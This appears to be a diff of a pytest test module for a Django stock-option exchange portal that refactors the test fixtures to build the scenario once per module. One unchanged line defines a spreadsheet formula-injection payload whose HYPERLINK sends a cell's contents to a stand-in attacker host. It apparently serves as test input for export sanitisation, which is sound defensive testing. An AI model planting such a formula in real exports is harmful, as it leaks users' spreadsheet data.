@@ -13,6 +13,7 @@ Seven employees (hand-computed figures in test_summary.py):
 - Oscar is an executive officer: not eligible.
 """
 
+import copy
 import uuid
 from dataclasses import dataclass
 from datetime import UTC, date, datetime
@@ -32,6 +33,7 @@ from soxp_portal.closing.actions import (
 )
 from soxp_portal.offers.actions import submit_election, withdraw_election
 from soxp_portal.offers.models import Employee, Grant, Offer
+from tests.conftest import create_slide_9_employee, load_soxp_2003
 from tests.factories import EmployeeFactory, GrantFactory, UserFactory
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -46,11 +48,6 @@ def member_of(role: Role, email: str) -> User:
     user = UserFactory(email=email)
     user.groups.add(Group.objects.get_or_create(name=role.value)[0])
     return user
-
-
-@pytest.fixture
-def admin(db: None) -> User:
-    return member_of(Role.STOCK_ADMINISTRATOR, "ada.admin@example.com")
 
 
 @pytest.fixture
@@ -121,13 +118,19 @@ class Scenario:
         self.grant()
 
 
-@pytest.fixture
-def scenario(soxp_2003: Offer, slide_9_employee: Employee, admin: User) -> Scenario:
-    offer = soxp_2003
+@pytest.fixture(scope="module")
+def built_scenario(module_transaction: None, django_db_blocker) -> Scenario:
+    """The scenario's rows, built once for each test module (see ``module_transaction``)."""
+    with django_db_blocker.unblock():
+        return build_scenario()
+
+
+def build_scenario() -> Scenario:
+    offer = load_soxp_2003()
     people = Scenario(
         offer=offer,
-        admin=admin,
-        sam=slide_9_employee,
+        admin=member_of(Role.STOCK_ADMINISTRATOR, "ada.admin@example.com"),
+        sam=create_slide_9_employee(),
         bob=_employee("E-BOB", "Bob", "Baker", {"G-BOB-1": (1000, "6.00"), "G-BOB-2": (400, "5.00")}),
         carol=_employee("E-CAROL", "Carol", "Cole", {"G-CAROL-1": (1000, "6.00")}),
         dave=_employee("E-DAVE", "Dave", "Dunn", {"G-DAVE-1": (1000, "6.00")}),
@@ -157,6 +160,22 @@ def scenario(soxp_2003: Offer, slide_9_employee: Employee, admin: User) -> Scena
         status=Employee.Status.TERMINATED, termination_date=date(2003, 1, 15)
     )
     return people
+
+
+@pytest.fixture
+def scenario(built_scenario: Scenario, db: None) -> Scenario:
+    """This test's copy of the scenario; what the test changes is rolled back after it."""
+    return copy.deepcopy(built_scenario)
+
+
+@pytest.fixture
+def soxp_2003(scenario: Scenario) -> Offer:
+    return scenario.offer
+
+
+@pytest.fixture
+def admin(scenario: Scenario) -> User:
+    return scenario.admin
 
 
 @pytest.fixture
